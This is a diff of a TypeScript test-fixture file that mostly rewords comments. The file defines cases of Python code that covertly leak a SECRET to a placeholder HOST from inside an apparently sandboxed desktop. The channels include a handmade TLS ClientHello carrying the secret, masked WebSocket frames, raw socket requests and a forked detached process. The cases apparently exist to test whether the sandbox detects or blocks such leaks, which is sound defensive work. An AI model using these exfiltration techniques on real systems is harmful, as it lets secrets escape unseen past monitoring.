@@ -1,21 +1,13 @@
-/**
- * Ways to do harm that nobody sees: each is Python that runs in the desktop, with a secret of its own in `SECRET`, a
- * host of its own in `HOST` and a folder of its own in `FOLDER`.
- */
+/** A way to hide harm: Python code with a unique secret in `SECRET`, a host in `HOST`, a folder in `FOLDER`. */
 export interface Hiding {
   name: string;
   account: 'user' | 'root';
   code: string;
-  /** What it leaks through, or does. */
+  /** The channel of the leak, or the hidden change. */
   kind: 'handshake' | 'request' | 'connection' | 'name' | 'datagram' | 'mail' | 'encoding' | 'file' | 'program';
-  /** Runs before the collection after which the harm comes. */
   before?: string;
-  /**
-   * How it has to come out: the secret is found (default), the desktop refuses it (it prints `refused`), or something
-   * else is in the effect log.
-   */
+  /** Expected result. Defaults to a recorded secret; `refused` means that the code prints this word. */
   shows?: 'refused' | { effect: RegExp } | { program: RegExp } | { area: string } | { unexplained: number };
-  /** Too slow for every day: `tools/escape/hide.ts` makes it. */
   isSlow?: true;
 }
 
@@ -36,7 +28,7 @@ const socketTo = (port: number): string => `
 import socket
 s = socket.create_connection((HOST, ${port}), timeout=10)
 `;
-/** Sends the parts one after another over a plain connection, waits for an answer, and hangs up. */
+/** Sends the parts one after another over a plain connection, waits for an answer and disconnects. */
 const http = (...parts: string[]): string => `${socketTo(80)}
 import time
 try:
@@ -61,7 +53,7 @@ context = ssl.create_default_context(); context.check_hostname = False; context.
 `;
 const secureTo = (port: number, server: string): string =>
   `context.wrap_socket(socket.create_connection((HOST, ${port}), timeout=10), server_hostname=${server})`;
-/** A first message of TLS, made by hand: `session` stands where an earlier session's name would. */
+/** A handmade TLS ClientHello. `session` replaces an earlier session's id. */
 const hello = `
 import os, socket, struct
 def hello(session):
@@ -95,7 +87,7 @@ for line in [${lines.join(', ')}]:
     except OSError: pass
     s.sendall(line.encode() if isinstance(line, str) else line)
 time.sleep(0.3); s.close()`;
-/** Goes on in a process that nobody waits for. */
+/** Continues in a detached process. */
 const goesOn = (code: string): string => `
 import os, sys
 if os.fork() == 0:
@@ -112,7 +104,7 @@ s.recv(4096)
 data, mask = SECRET.encode(), os.urandom(4)
 s.sendall(b'\\x81' + bytes([0x80 | len(data)]) + mask + bytes(byte ^ mask[at % 4] for at, byte in enumerate(data)))
 `;
-/** A file larger than what is read again in every scan. */
+/** A file larger than what every scan reads again. */
 const largeFile = "open(FOLDER + '/large', 'wb').write(b'a' * 300000)";
 const mapping = `
 import mmap
